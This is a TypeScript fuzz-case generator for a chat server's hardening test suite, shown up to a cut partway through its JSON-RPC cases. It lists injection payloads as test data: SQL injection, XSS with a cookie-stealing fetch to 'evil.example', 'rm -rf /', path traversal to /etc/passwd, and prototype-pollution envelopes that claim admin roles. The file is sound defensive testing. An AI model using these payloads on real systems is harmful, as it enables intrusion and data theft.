import type { Socket } from "socket.io-client";

/**
 * Hostile envelopes for the hardening fuzz suite (tests/integration/hardening-fuzz.test.ts), generated
 * from a seeded PRNG so that a failing run is reproduced exactly with FUZZ_SEED=<seed>.
 *
 * Every case says what the contract (PROTOCOL.md "Chat namespace", "Errors") makes of it: an ok ack, a
 * precise error code, or, where several outcomes are legitimate, any contract outcome.
 *
 * The lists below (error codes, server-only types, the golden path) are a deliberate, independent copy
 * of PROTOCOL.md, not imports from contract/: every other test compares with contract/, so this suite
 * is the one that fails if contract/ and the server drift away from the written protocol together.
 */

/** The contract's ack error codes (PROTOCOL.md "Errors"), written out here on purpose (see above). */
export const CONTRACT_ERROR_CODES = [
  "INVALID_MESSAGE",
  "UNKNOWN_MESSAGE_TYPE",
  "SERVER_ONLY_TYPE",
  "PAYLOAD_TOO_LARGE",
  "UNAUTHORIZED",
  "FORBIDDEN",
  "RATE_LIMITED",
  "NOT_FOUND",
  "HANDLER_ERROR",
] as const;
export type ContractErrorCode = (typeof CONTRACT_ERROR_CODES)[number];

/** Types the server sends; a client sending one gets SERVER_ONLY_TYPE (pong / heartbeat_ack are client types too). */
export const SERVER_ONLY = [
  "connection_established",
  "system_message",
  "typing_acknowledged",
  "agent_started",
  "agent_thinking",
  "tool_executing",
  "tool_completed",
  "agent_completed",
  "agent_error",
  "agent_status_update",
  "thread_created",
  "thread_history",
  "jsonrpc_response",
  "quality_metrics",
  "quality_alerts_subscribed",
  "quality_alerts_unsubscribed",
  "quality_alert",
  "content_validation_result",
  "quality_report_generated",
] as const;

/** Every client type name of the message table, canonical and alias. */
export const CLIENT_NAMES = [
  "connect",
  "connected",
  "disconnect",
  "ping",
  "heartbeat",
  "pong",
  "heartbeat_ack",
  "user_typing",
  "typing",
  "typing_started",
  "typing_stopped",
  "user_message",
  "chat",
  "user",
  "user_input",
  "message",
  "chat_message",
  "start_agent",
  "execute_agent",
  "agent_request",
  "agent",
  "stop_agent",
  "agent_status_request",
  "create_thread",
  "get_thread_history",
  "jsonrpc_request",
  "error_message",
  "error",
  "get_quality_metrics",
  "subscribe_quality_alerts",
  "validate_content",
  "generate_quality_report",
  "broadcast",
] as const;

const KNOWN_NAMES: ReadonlySet<string> = new Set<string>([...SERVER_ONLY, ...CLIENT_NAMES]);
const RUN_TYPES = [
  "user_message",
  "chat",
  "user",
  "user_input",
  "message",
  "chat_message",
  "start_agent",
  "execute_agent",
  "agent_request",
  "agent",
];

/** mulberry32: a small, fast, seedable PRNG; the same seed gives the same cases. */
export class Rng {
  #state: number;

  constructor(seed: number) {
    this.#state = seed >>> 0;
  }

  next(): number {
    let t = (this.#state = (this.#state + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  /** An integer in [lo, hi]. */
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)]!;
  }

  /** Picks by weight: `[[weight, value], ...]`. */
  weighted<T>(table: readonly (readonly [number, T])[]): T {
    const total = table.reduce((s, [w]) => s + w, 0);
    let r = this.next() * total;
    for (const [w, v] of table) {
      if ((r -= w) < 0) return v;
    }
    return table.at(-1)![1];
  }

  /** `len` code points of `alphabet` (whole code points: an emoji is never split into lone halves). */
  string(len: number, alphabet = ALPHANUM): string {
    const points = Array.from(alphabet);
    let s = "";
    for (let i = 0; i < len; i++) s += points[Math.floor(this.next() * points.length)];
    return s;
  }
}

/** The seed of this run: FUZZ_SEED when set (to reproduce a failure), else a fresh one. */
export function fuzzSeed(): number {
  const fromEnv = process.env.FUZZ_SEED;
  if (fromEnv !== undefined && fromEnv !== "") {
    const n = Number(fromEnv);
    if (!Number.isInteger(n)) throw new Error(`FUZZ_SEED must be an integer, got ${fromEnv}`);
    return n >>> 0;
  }
  return (Date.now() ^ (process.pid << 16) ^ Math.floor(Math.random() * 0x7fffffff)) >>> 0;
}

const ALPHANUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
/** No digits: long digit runs are a separate, dedicated test (the calculator's expression finder). */
const WORDY_BMP = "abcdefghijklmnopqrstuvwxyz     ,.?!'\"<>/\\;:-_=()[]{}%$#@&|~`éü中文";
/**
 * With astral characters too. Only where lone surrogates are allowed: the server cuts run content at
 * 80 UTF-16 units for the thread title (hardening-fuzz-surrogates checks it no longer splits a pair there).
 */
const WORDY_ASTRAL = WORDY_BMP + "🙂𝄞";
const wordy = (world: FuzzWorld) => (world.loneSurrogates ? WORDY_ASTRAL : WORDY_BMP);

/** Strings shaped like injections and markup: they must be stored and echoed as plain data. */
export const HOSTILE_STRINGS = [
  "'; DROP TABLE sessions; --",
  "' OR '1'='1",
  '" OR ""="',
  "1; SELECT * FROM trace_events WHERE 1=1 --",
  "Robert'); DELETE FROM threads;--",
  "%' UNION SELECT token FROM users --",
  "<script>alert(document.cookie)</script>",
  '<img src=x onerror="alert(1)">',
  "javascript:alert(1)",
  "</script><script>fetch('//evil.example/'+document.cookie)</script>",
  "{{constructor.constructor('return process')()}}",
  "${process.exit(1)}",
  "`rm -rf /`",
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "\u0000\u0001\u0002\u001f",
  "\r\n\r\nHTTP/1.1 200 OK\r\n",
  "%00%0d%0a",
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "toString",
  "valueOf",
  "null",
  "undefined",
  "NaN",
  "\u202e\u2066reversed",
  "\ufeffbom",
  "\ud800",
  "\udfff",
  "a\ud83dz",
  "\udc00\ud800",
  "😀".repeat(40),
];

/** True when `s` holds a UTF-16 surrogate half without its partner. */
export function hasLoneSurrogate(s: string): boolean {
  return /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(s);
}

/** A hostile string; lone surrogates only when the world allows them. */
function hostile(rng: Rng, world: FuzzWorld): string {
  const pool = world.loneSurrogates ? HOSTILE_STRINGS : HOSTILE_STRINGS.filter((h) => !hasLoneSurrogate(h));
  return rng.pick(pool);
}

/** Lone and reversed surrogates, unpaired halves at the ends of strings. */
export function surrogateString(rng: Rng, maxLen = 64): string {
  const parts = ["\ud800", "\udbff", "\udc00", "\udfff", "\ud83d", "\ude00", "x", "é", "😀"];
  let s = "";
  const n = rng.int(1, maxLen);
  while (s.length < n) s += rng.pick(parts);
  return s;
}

/** What the contract makes of a case. */
export type Expectation =
  { kind: "ok"; type?: string; startsRun?: boolean } | { kind: "error"; codes: readonly ContractErrorCode[] } | { kind: "any" };

export interface JsonRpcExpectation {
  id: string | number | null;
  /** Allowed `error.code` values of the jsonrpc_response; empty when a result is expected. */
  errorCodes: readonly number[];
  /** For -32000: the contract code expected in `error.message`. */
  serverErrorMessage?: ContractErrorCode;
}

export interface FuzzCase {
  n: number;
  category: string;
  /** Arguments of `socket.emit("message", ...args)`, before the ack callback. */
  args: unknown[];
  /** When set, the envelope is sent as this JSON text in a hand-built Socket.IO frame (nesting JSON.stringify cannot encode). */
  rawJson?: string;
  /** Whether the case is emitted with an ack callback. */
  ack: boolean;
  expect: Expectation;
  jsonrpc?: JsonRpcExpectation;
  /** The case whose ack this one must repeat (a repeated message_id). */
  repeats?: number;
}

/** What the generator knows of the world: the fuzz user's own ids and another user's. */
export interface FuzzWorld {
  limitBytes: number;
  victimUserId: string;
  ownThreadIds: readonly string[];
  ownRunIds: readonly string[];
  foreignThreadIds: readonly string[];
  foreignRunIds: readonly string[];
  /** Cases already generated with a string message_id (for idempotency repeats). */
  withMessageId: readonly FuzzCase[];
  /**
   * Whether strings may hold lone UTF-16 surrogates. They go to a separate node (see
   * hardening-fuzz-surrogates.test.ts): one of them once stopped every database write, so they get a
   * node of their own.
   */
  loneSurrogates: boolean;
}

/**
 * The contract size of an envelope: UTF-8 length of its JSON (binary attachments as placeholders)
 * plus the bytes of binary attachments. Returned as a range, since the JSON of a placeholder is not
 * specified; cases near the limit are judged loosely.
 */
export function contractSize(value: unknown): { json: number; binary: number } {
  let binary = 0;
  // Binary attachments become null before JSON.stringify (whose Buffer#toJSON would spell out every byte).
  const strip = (v: unknown): unknown => {
    if (typeof v !== "object" || v === null) return v;
    if (Buffer.isBuffer(v) || ArrayBuffer.isView(v) || v instanceof ArrayBuffer) {
      binary += v.byteLength;
      return null;
    }
    if (Array.isArray(v)) return v.map(strip);
    const out: Record<string, unknown> = {};
    for (const k of Object.keys(v)) Object.defineProperty(out, k, { value: strip((v as Record<string, unknown>)[k]), enumerable: true });
    return out;
  };
  const json = JSON.stringify(strip(value));
  return { json: json === undefined ? 0 : Buffer.byteLength(json), binary };
}

/** Depth of a payload as the contract counts it: the payload object is level 1, each nested container one more. */
export function payloadDepth(value: unknown): number {
  let max = 0;
  const stack: { v: unknown; d: number }[] = [{ v: value, d: 1 }];
  while (stack.length) {
    const { v, d } = stack.pop()!;
    if (typeof v !== "object" || v === null || Buffer.isBuffer(v) || ArrayBuffer.isView(v) || v instanceof ArrayBuffer) continue;
    if (d > max) max = d;
    for (const child of Object.values(v)) stack.push({ v: child, d: d + 1 });
  }
  return max;
}

const SIZE_SLACK = 128;

/** Applies the size rule (checked before anything else) and the depth rule on top of a base expectation. */
function sized(env: unknown, base: Expectation, limit: number): Expectation {
  const { json, binary } = contractSize(env);
  const total = json + binary;
  if (total > limit + SIZE_SLACK) return { kind: "error", codes: ["PAYLOAD_TOO_LARGE"] };
  if (total > limit - SIZE_SLACK) return { kind: "any" };
  if (typeof env === "object" && env !== null && !Array.isArray(env) && !Buffer.isBuffer(env)) {
    const payload = (env as Record<string, unknown>).payload;
    if (typeof payload === "object" && payload !== null && payloadDepth(payload) > 32) return { kind: "error", codes: ["INVALID_MESSAGE"] };
  }
  return base;
}

const ok = (type?: string, startsRun = false): Expectation => ({ kind: "ok", type, startsRun });
const err = (...codes: ContractErrorCode[]): Expectation => ({ kind: "error", codes });
const ANY: Expectation = { kind: "any" };

/** Junk that every handler must ignore (unknown payload fields), some of it own prototype-ish keys. */
function junkFields(rng: Rng, world: FuzzWorld): Record<string, unknown> {
  const n = rng.int(1, 4);
  let text = "{";
  const parts: string[] = [];
  for (let i = 0; i < n; i++) {
    const key = rng.pick([
      "user_id",
      "role",
      "isAdmin",
      "__proto__",
      "constructor",
      "prototype",
      "hasOwnProperty",
      "toString",
      "valueOf",
      "toJSON",
      "then",
      "extra",
    ]);
    const value = rng.pick([
      JSON.stringify(world.victimUserId),
      '"operator"',
      "true",
      '{"isAdmin":true,"polluted":"yes","role":"operator"}',
      '{"prototype":{"polluted":"yes"}}',
      "[1,2,3]",
      "null",
      JSON.stringify(hostile(rng, world)),
    ]);
    parts.push(`${JSON.stringify(key)}:${value}`);
  }
  text += parts.join(",") + "}";
  return JSON.parse(text) as Record<string, unknown>;
}

/** A minimal valid payload for a client type name, and what it gives. */
function validFor(rng: Rng, name: string, world: FuzzWorld): { payload: Record<string, unknown>; expect: Expectation } | null {
  switch (name) {
    case "connect":
    case "connected":
    case "disconnect":
    case "ping":
    case "heartbeat":
    case "pong":
    case "heartbeat_ack":
    case "get_quality_metrics":
      return { payload: {}, expect: ok() };
    case "user_typing":
    case "typing":
    case "typing_started":
    case "typing_stopped":
      return {
        payload: world.ownThreadIds.length && rng.chance(0.5) ? { thread_id: rng.pick(world.ownThreadIds) } : {},
        expect: ok(),
      };
    case "create_thread":
      return { payload: rng.chance(0.5) ? { title: hostile(rng, world).slice(0, 200) } : {}, expect: ok() };
    case "get_thread_history":
      return world.ownThreadIds.length
        ? { payload: { thread_id: rng.pick(world.ownThreadIds), limit: rng.int(1, 1000) }, expect: ok() }
        : null;
    case "stop_agent":
    case "agent_status_request":
      return world.ownRunIds.length ? { payload: { run_id: rng.pick(world.ownRunIds) }, expect: ok() } : null;
    case "error_message":
    case "error":
      return { payload: { error_code: rng.string(rng.int(1, 64)), error_message: hostile(rng, world) }, expect: ok() };
    case "subscribe_quality_alerts":
      return { payload: { action: rng.pick(["subscribe", "unsubscribe"]) }, expect: ok() };
    case "validate_content":
      return {
        payload: {
          content: hostile(rng, world) + rng.string(rng.int(0, 200), wordy(world)),
          content_type: rng.pick(["text", "json", "markdown", "code", "html"]),
        },
        expect: ok(),
      };
    case "generate_quality_report":
      return { payload: { report_type: rng.pick(["summary", "detailed"]), period_hours: rng.int(1, 48) }, expect: ok() };
    case "broadcast":
      // The fuzz user is no operator.
      return { payload: { content: "hello everyone" }, expect: err("FORBIDDEN") };
    case "jsonrpc_request":
      return { payload: { jsonrpc: "2.0", method: "ping", id: rng.int(0, 1e6) }, expect: ok() };
    default:
      if (RUN_TYPES.includes(name)) {
        const content = rng.chance(0.3)
          ? hostile(rng, world)
          : world.loneSurrogates && rng.chance(0.2)
            ? surrogateString(rng)
            : `what is ${rng.int(1, 99)} * ${rng.int(1, 99)}? ${rng.string(rng.int(0, 120), wordy(world))}`;
        return { payload: { content }, expect: ok(undefined, true) };
      }
      return null;
  }
}

const CANONICAL: Record<string, string> = {
  connected: "connect",
  typing: "user_typing",
  chat: "user_message",
  user: "user_message",
  user_input: "user_message",
  message: "user_message",
  chat_message: "user_message",
  execute_agent: "start_agent",
  agent_request: "start_agent",
  agent: "start_agent",
  error: "error_message",
};
const canonical = (name: string) => CANONICAL[name] ?? name;

/** Values of every JSON type but the one a field wants. */
function wrongValue(rng: Rng, world: FuzzWorld, not: "string" | "object" | "number" | "boolean"): unknown {
  const all: [string, () => unknown][] = [
    ["string", () => rng.pick(["", "x", hostile(rng, world)])],
    ["number", () => rng.pick([0, -1, 1.5, 1e308, -0, Number.MAX_SAFE_INTEGER])],
    ["boolean", () => rng.chance(0.5)],
    ["object", () => rng.pick([{}, { a: 1 }, JSON.parse('{"__proto__":{"x":1}}') as unknown])],
    ["array", () => rng.pick([[], [1], ["ping"], [{ type: "ping" }]])],
    ["null", () => null],
  ];
  return rng.pick(all.filter(([k]) => k !== not))[1]();
}

/** Deep nesting written as JSON text: `levels` containers around a leaf, as arrays or objects. */
export function deepJson(levels: number, kind: "array" | "object", leaf = "0"): string {
  return kind === "array" ? "[".repeat(levels) + leaf + "]".repeat(levels) : '{"a":'.repeat(levels) + leaf + "}".repeat(levels);
}

let messageCounter = 0;
const freshMessageId = (rng: Rng) => `fz-${++messageCounter}-${rng.string(8)}`;

/** Generates case number `n`. */
export function generateCase(rng: Rng, n: number, world: FuzzWorld): FuzzCase {
  const category = rng.weighted<string>([
    [8, "valid"],
    [10, "wrong_types"],
    [6, "non_object"],
    [3, "huge"],
    [4, "deep"],
    [8, "proto_pollution"],
    [6, "binary"],
    [world.loneSurrogates ? 60 : 0, "surrogates"],
    [6, "hostile_strings"],
    [10, "forged_ids"],
    [8, "server_only"],
    [5, "unknown_type"],
    [10, "jsonrpc"],
    [6, "no_ack"],
    [3, "repeat_message_id"],
    [4, "invalid_payload"],
  ]);
  const c: FuzzCase = { n, category, args: [], ack: true, expect: ANY };
  const limit = world.limitBytes;
  const withId = (env: Record<string, unknown>) => {
    if (rng.chance(0.4)) env.message_id = freshMessageId(rng);
    return env;
  };
  const set = (env: unknown, base: Expectation) => {
    c.args = [env];
    c.expect = sized(env, base, limit);
  };

  switch (category) {
    case "valid": {
      const name = rng.pick(CLIENT_NAMES);
      const found = validFor(rng, name, world);
      const type = found ? name : "ping";
      const v = found ?? { payload: {}, expect: ok() };
      const env: Record<string, unknown> = withId({ type, payload: v.payload });
      if (rng.chance(0.3)) {
        // Own keys, __proto__ included (Object.assign would set the prototype instead).
        const junk = junkFields(rng, world);
        for (const key of Object.keys(junk)) {
          Object.defineProperty(env.payload, key, { value: junk[key], enumerable: true, writable: true, configurable: true });
        }
      }
      if (rng.chance(0.2)) env.user_id = world.victimUserId;
      const e = v.expect.kind === "ok" ? ok(canonical(type), v.expect.startsRun) : v.expect;
      set(env, e);
      break;
    }
    case "wrong_types": {
      const field = rng.pick(["type", "type_long", "type_empty", "message_id", "thread_id", "run_id", "payload", "id_long"]);
      const env: Record<string, unknown> = { type: "ping", payload: {} };
      if (field === "type") env.type = wrongValue(rng, world, "string");
      else if (field === "type_long") env.type = "p".repeat(rng.int(65, 300));
      else if (field === "type_empty") env.type = "";
      else if (field === "payload") {
        let v = wrongValue(rng, world, "object");
        // null payload means "no payload" (allowed); an object is allowed too.
        while (v === null || (typeof v === "object" && !Array.isArray(v))) v = wrongValue(rng, world, "object");
        env.payload = v;
      } else if (field === "id_long") env[rng.pick(["message_id", "thread_id", "run_id"])] = "i".repeat(rng.int(129, 400));
      else {
        // Ids are strings of 1 to 128 characters: anything else (null included) is a wrong type.
        env[field] = rng.pick<unknown>(["", 7, 0, true, false, {}, { id: "x" }, [], ["thr_1"]]);
      }
      if (field !== "payload" && rng.chance(0.3)) delete env.payload;
      set(env, err("INVALID_MESSAGE"));
      break;
    }
    case "non_object": {
      const v = rng.pick<() => unknown[]>([
        () => [[{ type: "ping" }]],
        () => [[]],
        () => [rng.pick([0, 42, -1, 3.14, 1e300])],
        () => [null],
        () => [hostile(rng, world)],
        () => [true],
        () => [false],
        () => [],
        () => [Buffer.from("ping")],
        () => [new Uint8Array([1, 2, 3])],
      ])();
      c.args = v;
      c.expect = err("INVALID_MESSAGE");
      break;
    }
    case "huge": {
      // Over MAX_MESSAGE_BYTES, under Socket.IO's 1 MiB frame limit (that one closes the connection).
      const bytes = rng.chance(0.15) ? rng.int(300_000, 900_000) : rng.int(limit + SIZE_SLACK + 1, 150_000);
      const shape = rng.pick(["string_field", "many_keys", "binary", "content", "type_unknown", "top_string", "jsonrpc_params"]);
      const type = rng.pick([...CLIENT_NAMES, ...SERVER_ONLY, "no_such_type"]);
      if (shape === "top_string") {
        c.args = ["x".repeat(bytes)];
        c.expect = err("PAYLOAD_TOO_LARGE");
        break;
      }
      if (shape === "binary") {
        const env = { type, payload: { blob: Buffer.alloc(bytes) } };
        set(env, err("PAYLOAD_TOO_LARGE"));
        break;
      }
      if (shape === "many_keys") {
        const payload: Record<string, number> = {};
        // `"k<i>":<i>,` per key: stop once the JSON passes `bytes`.
        for (let i = 0, size = 2; size < bytes; i++) {
          payload[`k${i}`] = i;
          size += 2 * String(i).length + 5;
        }
        set({ type, payload }, err("PAYLOAD_TOO_LARGE"));
        break;
      }
      if (shape === "jsonrpc_params") {
        set(
          { type: "jsonrpc_request", payload: { jsonrpc: "2.0", method: "ping", id: 1, params: { pad: "p".repeat(bytes) } } },
          err("PAYLOAD_TOO_LARGE"),
        );
        break;
      }
      const big = rng.chance(0.5) ? "é".repeat(Math.floor(bytes / 2)) : "x".repeat(bytes);
      set(
        shape === "content" ? { type: "user_message", payload: { content: big } } : { type, payload: { pad: big } },
        err("PAYLOAD_TOO_LARGE"),
      );
      break;
    }
    case "deep": {
      // Hand-built JSON: 33 to 100k levels (JSON.stringify in the client cannot encode the deepest).
      const levels = rng.weighted<number>([
        [3, rng.int(33, 64)],
        [3, rng.int(65, 5000)],
        [3, rng.int(5001, 40_000)],
        [2, rng.int(40_001, 100_000)],
        [2, rng.int(1, 32)],
      ]);
      const kind = rng.pick(["array", "object"] as const);
      const where = rng.pick(["payload", "payload_field", "outside_payload", "thread_id", "top"]);
      const deep = deepJson(where === "payload" ? levels : levels, kind);
      let json: string;
      let base: Expectation;
      if (where === "payload") {
        // The payload itself must be an object: an array payload is INVALID_MESSAGE whatever its depth.
        json = kind === "object" ? `{"type":"ping","payload":${deep}}` : `{"type":"ping","payload":${deep}}`;
        base = kind === "array" ? err("INVALID_MESSAGE") : levels > 32 ? err("INVALID_MESSAGE") : ok("ping");
      } else if (where === "payload_field") {
        json = `{"type":"ping","payload":{"x":${deep}}}`;
        base = levels + 1 > 32 ? err("INVALID_MESSAGE") : ok("ping");
      } else if (where === "outside_payload") {
        // Unknown envelope fields are ignored; the depth rule is about the payload.
        json = `{"type":"ping","extra":${deep}}`;
        base = ok("ping");
      } else if (where === "thread_id") {
        json = `{"type":"ping","thread_id":${deep}}`;
        base = err("INVALID_MESSAGE");
      } else {
        json = deep;
        base = err("INVALID_MESSAGE");
      }
      const bytes = Buffer.byteLength(json);
      c.rawJson = json;
      c.expect = bytes > limit + SIZE_SLACK ? err("PAYLOAD_TOO_LARGE") : bytes > limit - SIZE_SLACK ? ANY : base;
      c.category = `deep_${where}`;
      break;
    }
    case "proto_pollution": {
      const variant = rng.int(0, 7);
      const victim = JSON.stringify(world.victimUserId);
      const texts: [string, Expectation][] = [
        ['{"type":"ping","payload":{"__proto__":{"polluted":"yes","isAdmin":true}}}', ok("ping")],
        ['{"__proto__":{"type":"ping","polluted":"yes"}}', err("INVALID_MESSAGE")],
        [
          '{"type":"broadcast","__proto__":{"role":"operator","isAdmin":true},"payload":{"content":"x","__proto__":{"role":"operator"}}}',
          err("FORBIDDEN"),
        ],
        [
          `{"type":"create_thread","payload":{"title":"t","constructor":{"prototype":{"polluted":"yes","isAdmin":true}}},"user_id":${victim}}`,
          ok("create_thread"),
        ],
        [
          '{"type":"jsonrpc_request","payload":{"jsonrpc":"2.0","method":"ping","id":1,"params":{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"isAdmin":true}}}}}',
          ok("jsonrpc_request"),
        ],
        [
          '{"type":"user_message","payload":{"content":"what is 2 + 2","__proto__":{"simulate":{"throw":true},"thread_id":"x"}}}',
          ok("user_message", true),
        ],
        ['{"type":"ping","payload":{"prototype":{"polluted":"yes"},"__proto__":[1,2,3]},"__proto__":null}', ok("ping")],
        [
          '{"type":"validate_content","payload":{"content":"hello there friend","__proto__":{"strict_mode":"yes"},"constructor":"Object"}}',
          ok("validate_content"),
        ],
      ];
      const [text, e] = texts[variant]!;
      set(JSON.parse(text), e);
      break;
    }
    case "binary": {
      const blob = rng.pick<() => unknown>([
        () => Buffer.from(rng.string(rng.int(0, 2000))),
        () => new Uint8Array(rng.int(0, 3000)),
        () => Buffer.from([0xff, 0xfe, 0x00, 0xd8]),
      ])();
      const where = rng.pick(["payload_field", "content", "type", "message_id", "thread_id", "payload", "nested"]);
      let env: Record<string, unknown>;
      let base: Expectation;
      switch (where) {
        case "payload_field":
          env = { type: "ping", payload: { blob } };
          base = ok("ping");
          break;
        case "nested":
          // Two attachments: a message may carry at most one (issue 16).
          env = { type: "validate_content", payload: { content: "hello", extra: [{ blob }, blob] } };
          base = err("INVALID_MESSAGE");
          break;
        case "content":
          env = { type: rng.pick(["user_message", "validate_content", "start_agent"]), payload: { content: blob } };
          base = err("INVALID_MESSAGE");
          break;
        case "payload":
          env = { type: "ping", payload: blob };
          base = err("INVALID_MESSAGE");
          break;
        default:
          env = { type: where === "type" ? blob : "ping", payload: {} };
          if (where !== "type") env[where] = blob;
          base = err("INVALID_MESSAGE");
      }
      set(env, base);
      break;
    }
    case "surrogates": {
      const s = surrogateString(rng, 60);
      const where = rng.pick([
        "content",
        "type",
        "thread_id",
        "run_id",
        "message_id",
        "title",
        "validate",
        "error_report",
        "junk_field",
        "jsonrpc",
      ]);
      let env: Record<string, unknown>;
      let base: Expectation;
      switch (where) {
        case "content":
          env = { type: rng.pick(RUN_TYPES), payload: { content: s } };
          base = ok(undefined, true);
          break;
        case "type":
          env = { type: s, payload: {} };
          base = err("UNKNOWN_MESSAGE_TYPE");
          break;
        case "thread_id":
        case "run_id":
          // An id that is not well-formed names nothing.
          env = { type: rng.pick(["ping", "user_typing", "create_thread"]), [where]: s };
          base = err("NOT_FOUND");
          break;
        case "junk_field":
          env = { type: "ping", payload: { [s]: s, note: s }, [s]: s };
          base = ok("ping");
          break;
        case "jsonrpc":
          env = { type: "jsonrpc_request", payload: { jsonrpc: "2.0", method: s.slice(0, 64), id: s.slice(0, 128), params: { s } } };
          base = ok("jsonrpc_request");
          c.jsonrpc = { id: s.slice(0, 128), errorCodes: [-32601] };
          break;
        case "message_id":
          env = { type: "ping", message_id: `${s}-${freshMessageId(rng)}` };
          base = ok("ping");
          break;
        case "title":
          env = { type: "create_thread", payload: { title: s } };
          base = ok("create_thread");
          break;
        case "validate":
          env = { type: "validate_content", payload: { content: s } };
          base = ok("validate_content");
          break;
        default:
          env = { type: "error_message", payload: { error_code: s, error_message: s } };
          base = ok("error_message");
      }
      if (where === "content" && base.kind === "ok") base = ok(canonical(String(env.type)), true);
      set(env, base);
      break;
    }
    case "hostile_strings": {
      const s = hostile(rng, world);
      const where = rng.pick(["content", "type", "thread_id", "run_id", "title", "agent_name", "history"]);
      let env: Record<string, unknown>;
      let base: Expectation;
      switch (where) {
        case "content":
          env = { type: rng.pick(RUN_TYPES), payload: { content: s } };
          base = ok(canonical(String(env.type)), true);
          break;
        case "type":
          env = { type: s, payload: {} };
          base = s.length > 64 ? err("INVALID_MESSAGE") : KNOWN_NAMES.has(s) ? ANY : err("UNKNOWN_MESSAGE_TYPE");
          break;
        case "thread_id":
        case "run_id":
          env = { type: rng.pick(["ping", "user_typing", "create_thread"]), [where]: s };
          base = err("NOT_FOUND");
          break;
        case "history":
          env = { type: "get_thread_history", payload: { thread_id: s } };
          base = err("NOT_FOUND");
          break;
        case "agent_name":
          env = { type: "start_agent", payload: { content: "what is 1 + 1", agent_name: s.slice(0, 64) } };
          base = err("NOT_FOUND");
          break;
        default:
          env = { type: "create_thread", payload: { title: s } };
          base = ok("create_thread");
      }
      set(env, base);
      break;
    }
    case "forged_ids": {
      const haveForeign = world.foreignThreadIds.length > 0 && world.foreignRunIds.length > 0;
      const variant = rng.pick([
        "envelope_thread",
        "payload_thread",
        "envelope_run",
        "payload_run",
        "stop",
        "status",
        "history",
        "random",
        "user_id",
      ]);
      const type = rng.pick([
        "ping",
        "heartbeat",
        "user_typing",
        "create_thread",
        "validate_content",
        "get_quality_metrics",
        "user_message",
        "chat",
      ]);
      const base = validFor(rng, type, world)!;
      const env: Record<string, unknown> = { type, payload: { ...base.payload } };
      const payload = env.payload as Record<string, unknown>;
      if (variant === "user_id" || !haveForeign) {
        env.user_id = world.victimUserId;
        payload.user_id = world.victimUserId;
        set(env, ok(canonical(type), RUN_TYPES.includes(type)));
        break;
      }
      const thread = rng.pick(world.foreignThreadIds);
      const run = rng.pick(world.foreignRunIds);
      switch (variant) {
        case "envelope_thread":
          env.thread_id = thread;
          break;
        case "payload_thread":
          payload.thread_id = thread;
          break;
        case "envelope_run":
          env.run_id = run;
          break;
        case "payload_run":
          payload.run_id = run;
          break;
        case "stop":
          env.type = "stop_agent";
          env.payload = { run_id: run };
          break;
        case "status":
          env.type = "agent_status_request";
          env.payload = { run_id: run };
          break;
        case "history":
          env.type = "get_thread_history";
          env.payload = { thread_id: thread };
          break;
        default: {
          // Ids that exist nowhere.
          const id = rng.pick(["thr_", "run_", ""]) + rng.string(rng.int(1, 40));
          if (rng.chance(0.5)) env[rng.pick(["thread_id", "run_id"])] = id;
          else {
            env.type = rng.pick(["stop_agent", "agent_status_request"]);
            env.payload = { run_id: id };
          }
          set(env, err("NOT_FOUND"));
          return c;
        }
      }
      set(env, err("FORBIDDEN"));
      break;
    }
    case "server_only": {
      const type = rng.pick(SERVER_ONLY);
      const env: Record<string, unknown> = {
        type,
        payload: rng.pick([
          {},
          { run_id: world.foreignRunIds[0] ?? "run_x", status: "completed" },
          { user_id: world.victimUserId, content: "spoof" },
          { connection_id: "conn_forged", user_id: world.victimUserId },
        ]),
      };
      if (rng.chance(0.3)) env.user_id = world.victimUserId;
      if (rng.chance(0.2) && world.foreignRunIds.length) env.run_id = rng.pick(world.foreignRunIds);
      set(env, err("SERVER_ONLY_TYPE"));
      break;
    }
    case "unknown_type": {
      let type = rng.pick([
        () => rng.string(rng.int(1, 64)),
        () => rng.pick(CLIENT_NAMES).toUpperCase(),
        () => ` ${rng.pick(CLIENT_NAMES)}`,
        () => `${rng.pick(CLIENT_NAMES)}\u0000`,
        () => rng.pick(["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "prototype"]),
        () => hostile(rng, world).slice(0, 64),
      ])();
      if (type.length === 0 || type.length > 64) type = "nope_type";
      set({ type, payload: {} }, KNOWN_NAMES.has(type) ? ANY : err("UNKNOWN_MESSAGE_TYPE"));
      break;
    }
    case "jsonrpc": {
      const id = rng.pick<string | number | null>([rng.int(0, 1e9), `rpc-${n}`, null]);
      const variant = rng.pick([
        "wrong_version",
        "no_version",
        "bad_id",
        "no_id",
        "server_only",
        "unknown",
        "self",
        "params_array",
        "params_string",
        "params_number",
        "bad_params",
        "forbidden",
        "ok_method",
        "no_method",
      ]);
      const payload: Record<string, unknown> = { jsonrpc: "2.0", method: "ping", id };
      let base: Expectation = ok("jsonrpc_request");
      switch (variant) {
        case "wrong_version":
          payload.jsonrpc = rng.pick(["1.0", "2", 2, 2.0, null, "", "2.0 "]);
          base = err("INVALID_MESSAGE");
          break;
        case "no_version":
          delete payload.jsonrpc;
          base = err("INVALID_MESSAGE");
          break;
        case "bad_id":
          payload.id = rng.pick([{}, [], true, { a: 1 }]);
          base = err("INVALID_MESSAGE");
          break;
        case "no_id":
          delete payload.id;
          base = err("INVALID_MESSAGE");
          break;
        case "no_method":
          payload.method = rng.pick([undefined, 1, "", null, {}]);
          if (payload.method === undefined) delete payload.method;
          base = err("INVALID_MESSAGE");
          break;
        case "server_only":
          payload.method = rng.pick(SERVER_ONLY);
          c.jsonrpc = { id, errorCodes: [-32601] };
          break;
        case "unknown":
          payload.method = `no_such_method_${rng.string(6)}`;
          c.jsonrpc = { id, errorCodes: [-32601] };
          break;
        case "self":
          payload.method = "jsonrpc_request";
          payload.params = { jsonrpc: "2.0", method: "ping", id: 2, params: { jsonrpc: "2.0", method: "ping", id: 3 } };
